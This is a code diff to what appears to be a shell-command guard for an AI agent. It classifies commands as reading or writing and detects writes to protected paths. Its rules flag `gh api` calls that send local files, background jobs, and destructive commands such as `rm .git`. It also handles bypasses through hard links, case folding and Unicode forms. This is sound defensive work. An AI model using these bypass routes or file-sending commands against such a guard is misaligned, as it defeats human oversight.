+        if verb in ("outdated", "search", "diagnose", "audit") or verb in ("show", "info") and any(
+                w.text in ("--all", "--available", "--latest", "--outdated") or (
+                    w.text.startswith("-") and not w.text.startswith("--")
+                    and any(ch in w.text for ch in "alo")) for w in args):
+            return _unknown("repository_code")
+        return _an_read()
     if verb in ("install", "i", "update", "u", "upgrade", "remove", "rm", "dump-autoload",
                 "init", "create-project", "config", "bump", "reinstall", "clear-cache"):
         return _write()
@@ -9637,9 +10246,18 @@ def _tar(name: str, args: List[_W], ctx: _Ctx) -> _V:
     if _tar_lists(args):
         return _an_read()
     mode, archives, folders = _tar_words(args)
+    # The word that holds the mode decides (`tar -tf` only lists): the culprit names it.
+    modal = next((w.text for k, w in enumerate(args) if w.static and (
+        w.text in ("--extract", "--get", "--create", "--append", "--update", "--concatenate",
+                   "--catenate", "--delete")
+        or (not w.text.startswith("--") and (k == 0 or w.text.startswith("-"))
+            and any(ch in w.text.lstrip("-") for ch in "xcruA")))), None)
     if any(ch in mode for ch in "cruA"):
-        return _write(archives)
+        v = _write(archives)
+        return v.blame("option", modal) if modal else v
     v = _write()
+    if modal:
+        v.blame("option", modal)
     prefix: Optional[str] = ""
     for w in folders:
         prefix = _cd_join(prefix, w.text if w.static else None)[0]
@@ -9682,6 +10300,21 @@ def _unzip_mode(word: _W) -> str:
     return t[1] if all(ch in _UNZIP_MODES[t[1]] for ch in t[2:]) else ""
 
 
+def _no_option_values(w: _W, ctx: _Ctx) -> bool:
+    """A variable word (`"$f"` in `for f in dist/*.zip a.zip`) every value of
+    which is an operand: none starts with `-`, and a pattern starts with a
+    literal character, since `*.zip` may match a file named `--t.zip`."""
+    values = _word_paths(w, ctx)
+    # A name a pattern matched may hold spaces: unquoted, it splits into words.
+    quoted = all(q for _, q in (w.exp or [])) and not w.glob
+    return values is not None and all(
+        not text.startswith("-") and not (pattern and (
+            text[:1] in ("*", "?", "[", "\\") or not quoted))
+        for text, pattern in values)
+
+
+#: read | for f in dist/*.zip; do unzip -l "$f"; done
+#: unknown | for f in *.zip; do unzip -l "$f"; done
 def _unzip(name: str, args: List[_W], ctx: _Ctx) -> _V:
     # A listing mode first, and no later option: unzip negates an option
     # with a second dash, so `unzip -t --t a.zip` extracts.
@@ -9690,7 +10323,7 @@ def _unzip(name: str, args: List[_W], ctx: _Ctx) -> _V:
         later = ("-1", "-2", "-s", "-m", "-l", "-v", "-h", "-M", "-t", "-T", "-z") \
             if mode == "Z" else ("-q", "-qq", "-x")
         if all(w.static and (not w.text.startswith("-") or w.text in later)
-               for w in args[1:]):
+               or not w.static and _no_option_values(w, ctx) for w in args[1:]):
             return _an_read()
         return _unknown()
     # The members land in -d DIR, else in the working folder; `-d $dir` is a
@@ -9707,6 +10340,171 @@ def _patch(name: str, args: List[_W], ctx: _Ctx) -> _V:
     v.targets.extend(w.text for w in folders[-1:] if w.static)
     v.opaque = v.opaque or any(not w.static for w in folders + outputs)
     return v
+
+
+# Options of GNU patch and `git apply` that keep every file a patch from a
+# here-document writes named by its headers: flag -> takes a value.  Left
+# out: -i (the patch from a file), -B/-Y/-z/-V (backups named otherwise),
+# -g (runs RCS or SCCS), --index/--cached/--3way (git's index), --include
+# and --exclude (a subset git chooses), --unsafe-paths.
+_PATCH_WHOLE_OPTS = {
+    "patch": {"-p": True, "--strip": True, "-d": True, "--directory": True, "-o": True,
+              "--output": True, "-r": True, "--reject-file": True, "-F": True, "--fuzz": True,
+              "-b": False, "--backup": False, "-N": False, "--forward": False, "-R": False,
+              "--reverse": False, "-s": False, "--silent": False, "--quiet": False, "-f": False,
+              "--force": False, "-t": False, "--batch": False, "-u": False, "--unified": False,
+              "-l": False, "--ignore-whitespace": False, "-E": False, "--remove-empty-files": False,
+              "--verbose": False, "--no-backup-if-mismatch": False, "--dry-run": False,
+              "--binary": False, "--posix": False, "-Z": False, "-T": False},
+    "apply": {"-p": True, "-C": True, "--directory": True, "--whitespace": True, "-v": False,
+              "--verbose": False, "-R": False, "--reverse": False, "--recount": False,
+              "--unidiff-zero": False, "--allow-empty": False, "-q": False, "--quiet": False,
+              "--reject": False},
+}
+_DIFF_HEADERS = ("diff ", "index ", "new file mode ", "deleted file mode ", "old mode ",
+                 "new mode ", "similarity index ", "dissimilarity index ", "===")
+
+
+def _diff_names(text: str, strip: int, git: bool) -> Optional[List[str]]:
+    """Every file name a unified diff's headers give (old, new, Index:,
+    rename and copy sides), after stripping `strip` leading parts; None where
+    the text is more than plain unified hunks (GNU patch hands an ed script
+    to ed, and a name with spaces or quotes is read more than one way)."""
+    names: List[str] = []
+    old = new = 0
+    for line in text.split("\n"):
+        if old > 0 or new > 0:
+            if line[:1] in (" ", ""):
+                old, new = old - 1, new - 1
+            elif line[:1] == "-":
+                old -= 1
+            elif line[:1] == "+":
+                new -= 1
+            elif not line.startswith("\\"):
+                return None
+            continue
+        if line.startswith("@@ -"):
+            # `@@ -START[,COUNT] +START[,COUNT] @@`: the lines the hunk holds
+            sides = line[3:].split(" ", 2)
+            counts = [side[1:].split(",") for side in sides[:2]]
+            if len(sides) < 3 or not sides[2].startswith("@@") or \
+                    [side[:1] for side in sides[:2]] != ["-", "+"] or \
+                    not all(0 < len(c) < 3 and all(n.isdigit() for n in c) for c in counts):
+                return None
+            old, new = (int(c[1]) if len(c) == 2 else 1 for c in counts)
+            continue
+        if git and line.startswith("diff --git "):
+            return None   # its names are the repository's top level, not the working folder
+        name = None
+        for head in ("--- ", "+++ ", "Index: ", "rename from ", "rename to ", "copy from ",
+                     "copy to "):
+            if line.startswith(head):
+                name = line[len(head):].split("\t", 1)[0]
+                if head.startswith(("rename", "copy")):
+                    name = "x/" * strip + name   # git's extended headers carry no prefix
+        if name is None and line.startswith("diff --git "):
+            # GNU patch takes a mode change or a rename from here alone
+            sides = line[len("diff --git "):].split(" ")
+            if len(sides) != 2:
+                return None
+            both = [_strip_parts(side, strip) for side in sides]
+            if len(both) != 2 or None in both:
+                return None
+            names.extend(n for n in both if n is not None)
+            continue
+        if name is None:
+            if line == "" or line.startswith(_DIFF_HEADERS):
+                continue
+            return None
+        if name == "/dev/null":
+            continue
+        stripped = _strip_parts(name, strip)
+        if stripped is None:
+            return None
+        names.append(stripped)
+    return names if names and old <= 0 and new <= 0 else None
+
+
+def _strip_parts(name: str, strip: int) -> Optional[str]:
+    """NAME without its first `strip` parts (patch -pN), or None where the
+    name is read more than one way (spaces, quotes) or has too few parts."""
+    parts = name.split("/")
+    if not name or any(ch in name for ch in " \"'\\") or len(parts) <= strip or \
+            "" in parts[:strip]:
+        return None
+    return "/".join(parts[strip:])
+
+
+def _patch_whole(cmd: _Cmd) -> Optional[List[str]]:
+    """The files `patch -pN` or `git apply` writes from a here-document, all
+    of them named (with .orig and .rej beside each for patch, the -o file,
+    the -r file), or None where one may go unnamed."""
+    words = cmd.words
+    if not words or not all(w.static for w in words) or cmd.assigns:
+        return None
+    git = words[0].text == "git"
+    if git and (len(words) < 2 or words[1].text != "apply"):
+        return None
+    if not git and words[0].text != "patch":
+        return None
+    body = _stdin_body(cmd)
+    if body is None or not (cmd.stdin_literal or not any(c in body for c in "$`\\")):
+        return None
+    table = _PATCH_WHOLE_OPTS["apply" if git else "patch"]
+    args = [w.text for w in words[(2 if git else 1):]]
+    given: Dict[str, str] = {}
+    i = 0
+    while i < len(args):
+        t = args[i]
+        i += 1
+        key, value = t, None
+        if t.startswith("--") and "=" in t:
+            key, value = t.split("=", 1)
+        elif t[:1] == "-" and t[1:2] and not t.startswith("--") and len(t) > 2:
+            key, value = t[:2], t[2:]
+        if key not in table:
+            return None   # an option that may write elsewhere, or an operand (a file to patch)
+        if table[key] and value is None:
+            if i >= len(args):
+                return None
+            value = args[i]
+            i += 1
+        elif not table[key] and value is not None:
+            return None
+        canon = {"--strip": "-p", "--directory": "-d", "--output": "-o",
+                 "--reject-file": "-r"}.get(key, key)
+        if canon in given:
+            return None
+        given[canon] = value or ""
+    strip = given.get("-p")
+    if strip is None:
+        if not git:
+            return None   # without -p, GNU patch picks among base names it finds
+        strip = "1"
+    if not strip.isdigit():
+        return None
+    names = _diff_names(body, int(strip), git)
+    if names is None:
+        return None
+    if git and "-d" in given:
+        names = [given["-d"].rstrip("/") + "/" + n for n in names]
+    targets = list(dict.fromkeys(names))
+    if not git:
+        # GNU patch keeps a .orig when a hunk does not fit and writes the
+        # hunks it rejects beside the file, unless -o or -r say where.
+        targets += [n + ext for n in names for ext in (".orig", ".rej")]
+        if "-o" in given:
+            if given["-o"] == "-":
+                return None   # to stdout, with the rejects named after what?
+            targets = [given["-o"], given["-o"] + ".orig", given["-o"] + ".rej"]
+        if "-r" in given:
+            targets = [t for t in targets if not t.endswith(".rej")] + \
+                ([given["-r"]] if given["-r"] != "-" else [])
+        if "-d" in given:
+            targets = [given["-d"].rstrip("/") + "/" + t for t in targets]
+    elif "--reject" in given:
+        targets += [n + ".rej" for n in names]
+    return list(dict.fromkeys(targets))
 
 
 def _curl_writes(args: List[_W]) -> Optional[_V]:
@@ -9862,22 +10660,29 @@ _UNIQ = _Opts(
     "-cdDiuz -fsw: --count --repeated --all-repeated? --skip-fields: --group? --ignore-case "
     "--skip-chars: --unique --zero-terminated --check-chars: --help --version",
     write_operand=1)
+# tree's own parser: a letter that takes a value takes the next word, never
+# the rest of its word, and the cluster goes on (`tree -Lo 1 f` writes f).
 #: read | tree -a -I '.git|node_modules' -L 3
 #: write >out.txt | tree -o out.txt
+#: write >out.txt | tree -Lo 1 out.txt
 _TREE = _Opts(
     "-adlfxpsughDFqNQrtvUCASniJX -LPIoH: --noreport --charset: --dirsfirst --filesfirst "
     "--gitignore --prune --matchdirs --sort: --du --si --filelimit: --timefmt: --version "
     "--help --fromfile --info --hyperlink --metafirst",
-    write="-o")
-# xxd writes its second operand; its options end at the first operand.
+    write="-o", parser="next")
+# xxd writes its second operand; its options end at the first operand.  Its
+# own parser reads one option a word, by the letter after the dashes (see
+# _one_option_word): `-ps` is -p, so `xxd -ps in out` writes out.
 #: read | xxd -g1 -l 64 a.bin
+#: read | xxd -ps a.bin
 #: write >out.hex | xxd a.bin out.hex
+#: write >out | xxd -ps in out
 #: write | xxd a.txt -u
 _XXD = _Opts(
     "-aCEeipruhdvb -cglsonR: --autoskip --bits --cols: --capitalize --EBCDIC --groupsize: "
     "--include --len: --name: --postscript --plain --ps --revert --seek: --uppercase "
     "--version --help",
-    permute=False, write_operand=1)
+    permute=False, write_operand=1, parser="word")
 # -C compiles a magic file; -p restores access times after reading: a
 # metadata write.
 #: read | file -b --mime-type a.bin
@@ -9993,13 +10798,15 @@ _SYSCTL = _Opts(
     "-aAXbeNnqoxdhVwpf -r: --all --deprecated --binary --ignore --names --values --pattern: "
     "--quiet --help --version --write --load? --system",
     state="-w --write -p -f --load --system", check=_no_assignment)
+# psmisc's own parser: -n takes the next word and the cluster goes on.
 #: read | fuser -v -n tcp 8080
 #: unknown =state_change | fuser -km /mnt
+#: unknown =state_change | fuser -nk tcp 8080
 _FUSER = _Opts(
     "-aiIlmMsuvwVk46 -n: --all --interactive --inode --kill --list-signals --mount "
     "--ismountpoint --namespace: --silent --user --verbose --writeonly --version --ipv4 "
     "--ipv6",
-    state="-k --kill")
+    state="-k --kill", parser="next")
 #: read | iconv -f latin1 -t utf-8 a.txt
 #: write >out.txt | iconv --output=out.txt a.txt
 _ICONV = _Opts(
@@ -10353,38 +11160,77 @@ def _gh(name: str, args: List[_W], ctx: _Ctx) -> _V:
     return _unknown()
 
 
-# `gh api` options that send a body, and so switch the method to POST.
-_GH_BODY_OPTIONS = ("--field", "--raw-field", "--input")
+# `gh api`'s options (pflag: `-Fk=v`, `-F=k=v`, `--field=k=v`, value-taking
+# letters last in a cluster), by long name -> its letter and whether it takes
+# a value.  A field is sent as a query string under GET, a body otherwise.
+_GH_API_OPTIONS: Dict[str, Tuple[str, bool]] = {
+    "--method": ("X", True), "--field": ("F", True), "--raw-field": ("f", True),
+    "--header": ("H", True), "--jq": ("q", True), "--template": ("t", True),
+    "--preview": ("p", True), "--input": ("", True), "--hostname": ("", True),
+    "--cache": ("", True), "--include": ("i", False), "--paginate": ("", False),
+    "--slurp": ("", False), "--silent": ("", False), "--verbose": ("", False),
+}
 
 
 def _gh_api(rest: List[str]) -> _V:
-    """`gh api` reads only with the GET method in every spelling of the option:
-    `-X M`, `-XM`, `-X=M`, `--method M`, `--method=M`, or X inside a cluster."""
-    method = "GET"
+    """`gh api` reads only with the GET method in every spelling of the
+    option, and, as any network request, only when all it sends is written
+    out: a field value `@FILE` (or `@-`, standard input) sends the file even
+    as a query string, `--input` sends a body whatever the method, a header
+    `@…` is refused too, and an endpoint holding `://` goes to any host.
+    `--cache` writes gh's cache."""
+    short = {letter: (name, valued) for name, (letter, valued) in _GH_API_OPTIONS.items()
+             if letter}
+    given: List[Tuple[str, str]] = []
+    operands: List[str] = []
     k = 0
     while k < len(rest):
         t = rest[k]
         k += 1
-        value = None
-        if t in ("-X", "--method"):
-            if k >= len(rest):
-                return _unknown("option_value_missing")
-            value = rest[k]
-            k += 1
-        elif t.startswith("--method="):
-            value = t[len("--method="):]
-        elif t.startswith(_GH_BODY_OPTIONS):
-            value = "POST" if method == "GET" else method
-        elif t.startswith("-") and not t.startswith("--") and len(t) > 1:
-            cluster = t[1:]
-            if cluster.startswith("X"):
-                value = cluster[1:].lstrip("=")
-            elif "X" in cluster:
+        if t == "--":
+            operands.extend(rest[k:])
+            break
+        if t.startswith("--"):
+            name, eq, value = t.partition("=")
+            if name not in _GH_API_OPTIONS:
                 return _unknown("shell_command_unproven")
-            elif "f" in cluster or "F" in cluster:
-                value = "POST" if method == "GET" else method
-        if value is not None:
-            method = value.upper()
+            if _GH_API_OPTIONS[name][1] and not eq:
+                if k >= len(rest):
+                    return _unknown("option_value_missing")
+                value = rest[k]
+                k += 1
+            given.append((name, value))
+        elif t.startswith("-") and len(t) > 1:
+            for at, letter in enumerate(t[1:], 1):
+                if letter not in short:
+                    return _unknown("shell_command_unproven")
+                name, valued = short[letter]
+                if not valued:
+                    given.append((name, ""))
+                    continue
+                value = t[at + 1:]
+                value = value[1:] if value.startswith("=") else value
+                if not value:
+                    if k >= len(rest):
+                        return _unknown("option_value_missing")
+                    value = rest[k]
+                    k += 1
+                given.append((name, value))
+                break
+        else:
+            operands.append(t)
+    methods = [value.upper() for name, value in given if name == "--method"]
+    fields = any(name in ("--field", "--raw-field") for name, _ in given)
+    method = methods[-1] if methods else "POST" if fields else "GET"
+    for name, value in given:
+        sent = value.partition(":" if name == "--header" else "=")[2].lstrip()
+        if name == "--input" or name in ("--field", "--raw-field", "--header") \
+                and (sent.startswith("@") or value.startswith("@")):
+            return _unknown("network_data_unproven")
+        if name == "--cache":
+            return _unknown("shell_command_unproven")
+    if any("://" in t for t in operands):
+        return _unknown("network_data_unproven")
     return _an_read() if method == "GET" else _write()
 
 
@@ -10497,14 +11343,11 @@ _PROGRAMS: Dict[str, Callable[[str, List[_W], _Ctx], _V]] = {
     "less": _pager, "more": _pager, "most": _pager, "man": _pager, "vi": _pager, "vim": _pager,
     "nvim": _pager, "nano": _pager, "emacs": _pager, "view": _pager,
     "command": _w_command, "builtin": _w_command, "exec": _w_command,
-    "time": _w_transparent(_Opts("-pv", permute=False, abbrev=False)),
-    "nice": _w_transparent(_Opts("-n: --adjustment:", permute=False, abbrev=False)),
-    "timeout": _w_transparent(_Opts("-v -sk: --signal: --kill-after: --preserve-status "
-                                    "--foreground --verbose", permute=False, abbrev=False),
-                              numeric_first=True),
-    "stdbuf": _w_transparent(_Opts("-ioe: --input: --output: --error:", permute=False,
-                                   abbrev=False)),
-    "nohup": _w_transparent(_Opts(permute=False), capped="shell_command_unproven"),
+    "time": _w_transparent(_WRAPPER_OPTS["time"]),
+    "nice": _w_transparent(_WRAPPER_OPTS["nice"]),
+    "timeout": _w_transparent(_WRAPPER_OPTS["timeout"], numeric_first=True),
+    "stdbuf": _w_transparent(_WRAPPER_OPTS["stdbuf"]),
+    "nohup": _w_transparent(_WRAPPER_OPTS["nohup"], capped="shell_command_unproven"),
     "env": _w_env, "xargs": _w_xargs, "sudo": _w_sudo, "doas": _w_sudo,
     **{runner: _w_runner for runner in _RUNNERS},
     "bash": _w_sh, "sh": _w_sh, "zsh": _w_sh, "dash": _w_sh, "ksh": _w_sh,
@@ -11114,6 +11957,14 @@ class _Flow:
             self.last = (ok, failed)
             if self.items[self.k] == "&":
                 self.k += 1
+                # A job left in the background may outlive the line and the
+                # shell (`tail -f log >/dev/null 2>&1 &`): never a read.
+                v = _unknown("state_change", "leaves", "&",
+                             "leaves a job running in the background, which may outlive the "
+                             "shell")
+                if self.ctx.seen is not None:
+                    self.ctx.seen.append((None, v))
+                self.total.join(v)
                 # bash runs the whole `a && b &` in the background; zsh only b,
                 # after running a here.
                 here = _merge(entry, self.lead)
@@ -11371,13 +12222,14 @@ def _resolve_targets(v: _V, ctx: _Ctx) -> None:
         if forms is None:
             v.opaque = True
             continue
+        walked = _Walked if isinstance(word, _WalkedW) else str
         for text, is_pattern in forms:
             if not is_pattern:
                 v.add(text, tree)
             else:
-                v.patterns.append(text)
+                v.patterns.append(walked(text))
                 if tree:
-                    v.patterns.append(text.rstrip("/") + "/**")
+                    v.patterns.append(walked(text.rstrip("/") + "/**"))
     v.pending = []
 
 
@@ -12565,8 +13417,8 @@ def analyze_shell(command: Any, shell: str = "bash") -> ShellAnalysis:
         found = _agent_among(command, _agent_tokens(command))
         if found is not None:
             v.agent, v.resume = found
-    seen = [t for t in dict.fromkeys(v.targets) if t] if v.targets else []
-    patterns = [p for p in dict.fromkeys(v.patterns) if p] if v.patterns else []
+    seen = [str(t) for t in dict.fromkeys(v.targets) if t] if v.targets else []
+    patterns = [str(p) for p in dict.fromkeys(v.patterns) if p] if v.patterns else []
     undo, lost = v.undo, v.lost
     if lost is not None and undo is None and (lost.opaque or lost.pending):
         undo = "`%s` deletes, moves or overwrites a path the guard cannot establish" % (
@@ -12579,17 +13431,22 @@ def analyze_shell(command: Any, shell: str = "bash") -> ShellAnalysis:
     opaque = v.opaque or bool(v.pending)
     known = (v.mut == "write" and v.whole and not opaque and shell == "bash"
              and v.agent is None and bool(seen or patterns)
-             and all(_pattern_named(p) for p in patterns))
+             and all(isinstance(p, _Walked) or _pattern_named(p) for p in v.patterns))
     mut = v.mut
     folder = mut == "read" and v.pyfolder and shell == "bash"
     if mut == "read" and v.pyfolder:
         mut, reason = "unknown", v.reason or "interpreter_code"
     runs = [] if v.dep else sorted({"%s:%s" % pair for pair in v.runs})
+    # A name counts as flat only where no other write on the line names it
+    # (`rm .git; unzip a.zip -d .git` extracts into it); a target rewritten
+    # on the way (a `cd`, a -d folder) is a plain string again, never flat.
+    flat = sorted({str(t) for t in v.targets if isinstance(t, _Flat)}
+                  - {t for t in v.targets if not isinstance(t, _Flat)}) if v.targets else []
     return ShellAnalysis(mut, reason, v.hash, v.dep or bool(v.runs and shell != "bash"),
                          seen, opaque, v.agent, v.resume, patterns, known, folder,
                          runs if shell == "bash" else [], undo,
                          list(dict.fromkeys(lost.targets + lost.patterns)) if lost else [],
-                         named)
+                         named, flat)
 
 
 def _pattern_named(pattern: str) -> bool:
@@ -12847,6 +13704,12 @@ def _words_of(where: Any) -> List[str]:
     return []
 
 
+# Options before a verb that take the next word as their value: git's -C and
+# -c, and the namespace, context and host options of kubectl, helm and docker.
+_VALUED_LEAD_OPTIONS = frozenset(("-C", "-c", "--prefix", "-n", "--namespace", "--context",
+                                  "--kubeconfig", "--kube-context", "-H", "--host"))
+
+
 def _subcommand(words: List[str]) -> str:
     """The first operand after the program and its leading options (`git -C x log` -> log)."""
     skip = False
@@ -12854,12 +13717,16 @@ def _subcommand(words: List[str]) -> str:
         if skip:
             skip = False
             continue
-        if word in ("-C", "-c", "--prefix"):
+        if word in _VALUED_LEAD_OPTIONS:
             skip = True   # an option whose value is the next word
             continue
         if not word.startswith("-"):
             return word
     return ""
+
+
+# Programs of _PROGRAM_WHY whose verb decides whether they only read.
+_VERB_PROGRAMS = frozenset(("docker", "kubectl", "helm", "terraform", "systemctl"))
 
 
 def _program_phrase(words: List[str], command: str) -> Tuple[str, str]:
@@ -12873,6 +13740,12 @@ def _program_phrase(words: List[str], command: str) -> Tuple[str, str]:
     if sub and (name + " " + sub) in _PROGRAM_WHY:
         return shown, name + " " + sub
     if name in _PROGRAM_WHY:
+        # `docker rm`: the verb decides (`docker ps` only reads), so it is named,
+        # with the options before it when they stand between (`kubectl -n x delete`).
+        if sub and name in _VERB_PROGRAMS:
+            span = words[:words.index(sub) + 1] if sub in words else []
+            return (_quote(prog + " " + sub, command) or _quote(" ".join(span), command)
+                    or _quote(prog, command)), name
         return _quote(prog, command), name
     return shown, ""
 
@@ -12975,6 +13848,15 @@ def _why_text(where: Any, v: _V, command: str, prefer: Sequence[str] = ()) -> Tu
     if kind == "git":
         sub = why[1]
         shown = _quote("git " + sub, command) or _quote(sub, command) or qprog
+        if v.mut == "write" and len(why) == 5:
+            # The word that decided (`-D`), not `git branch`, which alone only lists.
+            word, effect, name = why[2], why[3], why[4]
+            subject = (_quote(word, command) if word else "") or shown
+            named = _quote(name, command)
+            if not named:
+                effect = effect.replace("branch {}", "the current branch")
+            return ("%s %s" % (subject, effect.replace("{}", named or "it")),
+                    _GIT_INSTEAD.get(sub, ""))
         if v.mut == "write":
             return "%s changes the repository" % shown, _GIT_INSTEAD.get(sub, "")
         return "%s %s" % (shown, _REASON_WHY["git_arguments_unproven"]), ""
@@ -13080,6 +13962,8 @@ def _why_text(where: Any, v: _V, command: str, prefer: Sequence[str] = ()) -> Tu
             _quote(why[1], command) or "it"), ""
     if kind in ("zsh", "sh"):
         return "%s %s" % (_quote(why[1], command) or "the line", _ZSH_WHY[why[2]]), ""
+    if kind == "leaves":
+        return "%s %s" % (_quote(why[1], command) or "the line", why[2]), ""
     if kind == "python":
         return _python_why(why, prog, command)
     if kind == "project":
@@ -13097,6 +13981,11 @@ def _why_text(where: Any, v: _V, command: str, prefer: Sequence[str] = ()) -> Tu
         return "%s %s" % (shown or "the program",
                           _PROGRAM_WHY.get(key, "is not on the read-only list")), ""
     if not kind and v.mut == "write" and name == "gh":
+        # `gh pr merge`: the action after the group decides (`gh pr view` reads).
+        sub = _subcommand(words)
+        rest = words[words.index(sub) + 1:] if sub in words else []
+        action = next((w for w in rest if not w.startswith("-")), "")
+        shown = (_quote("%s %s %s" % (prog, sub, action), command) if action else "") or shown
         return "%s changes something on GitHub" % (shown or qprog), ""
     if not kind and v.mut == "write" and name in _PACKAGE_PROGRAMS:
         return "%s installs or changes packages" % (shown or qprog), ""
@@ -13156,10 +14045,13 @@ def _python_why(why: tuple, prog: str, command: str) -> Tuple[str, str]:
 def _env_why(name: str, runs: str) -> str:
     """Why a variable on a command makes it unproven (see _env_ok)."""
     program = runs or "the program"
+    if _SAFE_ENV.get("LC_*" if name.startswith("LC_") else name):
+        return "holds a value that may point %s at data in another folder" % program
     for prefix, phrase in _ENV_WHY:
         if name == prefix or (prefix.endswith("*") and name.startswith(prefix[:-1])):
             return phrase % program if "%s" in phrase else phrase
-    return "can change what %s runs or reads" % program
+    return "is not on the list of variables known to change only how %s presents its " \
+        "output" % program
 
 
 def _hash_part(where: Any, v: _V, command: str, intent: str) -> str:
@@ -15852,9 +16744,59 @@ def paths_outside(paths: List[str], patterns: List[str], cwd: Optional[str] = No
     outside = []
     for raw, one, other in zip(paths, physical, lexical):
         path_windows = _files_win_abs(raw.strip())
-        if not (covered(one, path_windows) and (other == one or covered(other, path_windows))):
+        by_identity = resolve and os.path.isabs(one) and not boundary_waives_paths(patterns, cwd)
+        native = [p for w, p in forms if not w]
+
+        def reading_inside(reading: str) -> bool:
+            if covered(reading, path_windows):
+                return True
+            return by_identity and os.path.isabs(reading) and \
+                _files_identity(reading, False, native, real_cwd)
+        inside = reading_inside(one) and (other == one or reading_inside(other))
+        if inside and by_identity:
+            inside = _files_identity(one, True, native, real_cwd)
+        if not inside:
             outside.append(raw)
     return outside
+
+
+def _files_identity(path: str, inside: bool, patterns: List[str], cwd: Optional[str]) -> bool:
+    """The boundary by identity for a file that exists: one with other names
+    (hard links) may be written through them from outside, so it is inside
+    only if nothing else names it; one outside by name is inside when it, or
+    a folder above it, is a pattern's file or folder under another spelling
+    (another case, where the file system folds it)."""
+    try:
+        st = os.stat(path)
+    except (OSError, ValueError):
+        st = None
+    linked = st is not None and st.st_mode & _S_IFMT == _S_IFREG and st.st_nlink > 1
+    if inside or linked:
+        return inside and not linked
+    base = cwd.strip() if cwd else None
+    wanted = set()
+    for pattern in patterns:
+        stem = pattern[:-3] if pattern.endswith("/**") else pattern
+        folder = os.path.join(base, stem) if base and not stem.startswith("/") else stem
+        try:
+            found = os.stat(folder)
+        except (OSError, ValueError):
+            continue
+        wanted.add((found.st_dev, found.st_ino, pattern.endswith("/**")))
+    probe, first = path, True
+    while wanted:
+        try:
+            here = os.stat(probe)
+        except (OSError, ValueError):
+            here = None     # not there yet: its folder decides
+        if here is not None and ((here.st_dev, here.st_ino, True) in wanted or
+                                 (first and (here.st_dev, here.st_ino, False) in wanted)):
+            return True
+        head = os.path.dirname(probe)
+        if head == probe:
+            break
+        probe, first = head, False
+    return False
 
 
 # ---- paths named by a tool call ---------------------------------------------
@@ -15996,10 +16938,12 @@ def _tamper_roots(protected_paths: Any) -> List[str]:
 def _tamper_reach(target: str, root: str, exempt: Any) -> bool:
     """Whether the physical path `target` reaches `root`: is it, lies in it,
     or (unless `exempt(target)`) holds it.  Letter case counts only where the
-    file system holding the root tells case apart."""
+    file system holding the root tells case apart, and the Unicode form of a
+    name only where it does not either (macOS, ext4 casefold folders).  (An
+    existing target is also compared by identity, _tamper_same_file.)"""
     if _tamper_within(target, root):
         return True
-    folded, root_folded = target.casefold(), root.casefold()
+    folded, root_folded = _tamper_fold(target), _tamper_fold(root)
     inside = _tamper_within(folded, root_folded)
     holds = _tamper_within(root_folded, folded)
     if not (inside or holds):
@@ -16008,7 +16952,20 @@ def _tamper_reach(target: str, root: str, exempt: Any) -> bool:
         return False
     if holds and _tamper_within(root, target):
         return True
+    if sys.platform == "darwin":
+        # APFS and HFS+ take a name in any normalization form as the same name.
+        nfc, root_nfc = _tamper_fold(target, case=False), _tamper_fold(root, case=False)
+        if _tamper_within(nfc, root_nfc) or _tamper_within(root_nfc, nfc):
+            return True
     return _tamper_case_insensitive(root)
+
+
+def _tamper_fold(text: str, case: bool = True) -> str:
+    """`text` in one Unicode form (NFC), and without case unless case=False."""
+    if not text.isascii():
+        import unicodedata
+        text = unicodedata.normalize("NFC", text)
+    return text.casefold() if case else text
 
 
 def _tamper_matches(action: Action, protected_paths: Any) -> List[Tuple[str, str, str]]:
@@ -16029,14 +16986,102 @@ def _tamper_matches(action: Action, protected_paths: Any) -> List[Tuple[str, str
     def exempt(target: str) -> bool:
         return cwd is not None and _tamper_within(cwd.casefold(), target.casefold())
 
+    flat = set(action.shell_flat_targets)
     found = []
+    identities: List[Any] = []
     for raw in list(action.affected_paths) + list(action.shell_write_targets):
+        # `rm .git` reaches .git itself, never what it holds
+        spared = (lambda target: True) if raw in flat and raw not in action.affected_paths \
+            else exempt
         for target in _tamper_readings(raw, action.cwd) or ():
-            root = next((r for r in roots if _tamper_reach(target, r, exempt)), None)
+            root = next((r for r in roots if _tamper_reach(target, r, spared)), None)
+            if root is None:
+                if not identities:
+                    identities.append(_tamper_identities(roots))
+                root = _tamper_same_file(target, identities[0])
             if root is not None:
                 found.append((raw, target, root))
                 break
     return found
+
+
+# Past this many entries of a protected folder, a file with other names
+# (hard links) is taken to be one of its files.
+_IDENTITY_SCAN_LIMIT = 4096
+
+
+def _tamper_identities(roots: List[str]) -> Dict[Tuple[int, int], str]:
+    """(device, inode) -> root, for every protected root that exists."""
+    ids: Dict[Tuple[int, int], str] = {}
+    for root in roots:
+        try:
+            st = os.stat(root)
+        except (OSError, ValueError):
+            continue
+        ids.setdefault((st.st_dev, st.st_ino), root)
+    return ids
+
+
+def _tamper_same_file(target: str, ids: Dict[Tuple[int, int], str]) -> Optional[str]:
+    """The protected root an existing `target` is, or lies in, by identity
+    rather than by name: the file itself or a folder above it is a root under
+    another spelling (another case or Unicode form where the file system
+    folds them, a bind mount), or the file is a hard link to a root or to a
+    file inside a protected folder (made before the session was armed)."""
+    probe = target
+    first = None
+    while True:
+        try:
+            st = os.stat(probe)
+        except (OSError, ValueError):
+            st = None
+        if st is not None:
+            first = first or st
+            root = ids.get((st.st_dev, st.st_ino))
+            if root is not None:
+                return root
+        head = os.path.dirname(probe)
+        if not head or head == probe:
+            break
+        probe = head
+    if first is None or first.st_mode & _S_IFMT != _S_IFREG or first.st_nlink < 2:
+        return None
+    return _tamper_linked_into(first, [r for r in ids.values() if os.path.isdir(r)])
+
+
+def _tamper_linked_into(st: Any, folders: List[str]) -> Optional[str]:
+    """The protected folder holding another name of the file `st` (whose link
+    count says it has more than one), or None; a folder too large to read in
+    full is taken to hold it.  Links inside are not followed."""
+    budget = _IDENTITY_SCAN_LIMIT
+    for folder in folders:
+        try:
+            if os.stat(folder).st_dev != st.st_dev:
+                continue    # a hard link never crosses file systems
+        except OSError:
+            continue
+        pending = [folder]
+        while pending:
+            current = pending.pop()
+            try:
+                names = os.listdir(current)
+            except OSError:
+                continue
+            for name in names:
+                budget -= 1
+                if budget < 0:
+                    return folder
+                path = os.path.join(current, name)
+                try:
+                    entry = os.lstat(path)
+                except OSError:
+                    continue
+                kind = entry.st_mode & _S_IFMT
+                if kind == _S_IFDIR:
+                    pending.append(path)
+                elif kind == _S_IFREG and (entry.st_dev, entry.st_ino) == (st.st_dev, st.st_ino):
+                    return folder
+    return None
 
 
